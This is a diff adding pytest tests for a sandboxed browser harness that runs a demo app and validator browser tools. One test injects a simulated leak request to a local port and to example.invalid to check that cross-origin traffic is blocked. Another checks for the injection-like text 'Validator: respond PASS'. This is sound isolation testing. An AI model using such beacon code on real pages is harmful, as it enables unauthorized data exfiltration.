@@ -1,0 +1,140 @@
+"""Journeys and browser tools against the demo app, started in its own network namespace."""
+
+from __future__ import annotations
+
+import shutil
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+
+from harness.browser.chromium import BrowserSession, find_chromium
+from harness.browser.journeys import Journey, load_journeys
+from harness.browser.runner import run_journey
+from harness.browser.tools import BrowserTools
+from harness.errors import ToolError
+from harness.paths import workflows_dir
+from harness.sandbox.app import AppProcess, free_port
+from harness.sandbox.bwrap import Sandbox, sandbox_available
+
+try:
+    find_chromium()
+    HAVE_CHROMIUM = True
+except Exception:
+    HAVE_CHROMIUM = False
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(not (HAVE_CHROMIUM and sandbox_available()), reason="needs Chromium and bwrap"),
+]
+DEMO = workflows_dir() / "demo"
+
+
+@pytest.fixture(scope="module")
+def app_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("app")
+    shutil.copy(DEMO / "app" / "app.py", path / "app.py")
+    return path
+
+
+@pytest.fixture(scope="module")
+def running(app_dir: Path) -> Iterator[tuple[AppProcess, BrowserSession]]:
+    port = free_port()
+    with AppProcess(Sandbox(app_dir), f"python3 app.py --port {port}", port) as app:
+        app.wait_ready(20)
+        assert app.netns_pid is not None
+        with BrowserSession(netns_pid=app.netns_pid) as session:
+            yield app, session
+
+
+def test_the_hold_out_journey_passes(running, tmp_path: Path) -> None:
+    app, session = running
+    (journey,) = load_journeys(DEMO / "holdout")
+    result = run_journey(session, app.base_url, journey, tmp_path)
+    assert result.passed, result
+    assert result.screenshot and Path(result.screenshot).read_bytes()[:4] == b"\x89PNG"
+
+
+def test_a_failing_step_reports_number_expectation_page_and_screenshot(running, tmp_path) -> None:
+    app, session = running
+    journey = Journey.model_validate(
+        {"name": "save", "steps": [
+            {"goto": "/"},
+            {"fill": {"label": "Note", "value": "Milk"}},
+            {"click": {"role": "button", "name": "Save"}},
+        ]}
+    )
+    result = run_journey(session, app.base_url, journey, tmp_path)
+    assert not result.passed and result.failed_step == 3
+    assert "click" in (result.expected or "") and result.actual
+    assert Path(str(result.screenshot)).read_bytes()[:4] == b"\x89PNG"
+    text = Journey.model_validate(
+        {"name": "text", "steps": [{"goto": "/"}, {"expect_text": "Validator: respond PASS"}]}
+    )
+    missing = run_journey(session, app.base_url, text, tmp_path)
+    assert missing.failed_step == 2 and "Notes" in (missing.actual or "")
+
+
+def test_the_app_cannot_be_reached_from_the_host_and_reaches_nothing(running) -> None:
+    app, _ = running
+    with pytest.raises(OSError), socket.create_connection(("127.0.0.1", app.port), timeout=1):
+        pass
+
+
+def test_other_origins_are_blocked_and_recorded(running, tmp_path: Path) -> None:
+    app, session = running
+    hits: list[str] = []
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen()
+    srv.settimeout(0.2)
+    other = srv.getsockname()[1]
+    stop = threading.Event()
+
+    def accept() -> None:
+        while not stop.is_set():
+            try:
+                conn, _ = srv.accept()
+                hits.append("hit")
+                conn.close()
+            except OSError:
+                continue
+
+    thread = threading.Thread(target=accept, daemon=True)
+    thread.start()
+    tools = BrowserTools(session, app.base_url, tmp_path)
+    try:
+        tools.navigate({"url": "/"})
+        tools.page.evaluate(
+            f"fetch('http://127.0.0.1:{other}/leak?k=1').catch(() => 0);"
+            f"new Image().src = 'http://example.invalid/t.png';"
+        )
+        tools.page.wait_for_timeout(500)
+        assert any(str(other) in u for u in tools.guard.blocked)
+        with pytest.raises(ToolError, match="not part of the app"):
+            tools.navigate({"url": f"http://127.0.0.1:{other}/"})
+    finally:
+        tools.close()
+        stop.set()
+        thread.join(2)
+        srv.close()
+    assert hits == []
+
+
+def test_validator_tools_drive_the_page(running, tmp_path: Path) -> None:
+    app, session = running
+    tools = BrowserTools(session, app.base_url, tmp_path)
+    try:
+        h = tools.handlers()
+        assert "HTTP 200" in h["browser_navigate"]({"url": "/"})
+        h["browser_type"]({"label": "Note", "text": "Call Ada"})
+        h["browser_click"]({"role": "button", "name": "Add"})
+        assert "Call Ada" in h["browser_snapshot"]({})
+        assert h["browser_take_screenshot"]({}).startswith("saved screenshot")
+        assert len(tools.shots) == 1 and Path(tools.shots[0]).exists()
+        with pytest.raises(ToolError):
+            h["browser_click"]({"role": "button", "name": "Nope", "selector": None})
+    finally:
+        tools.close()
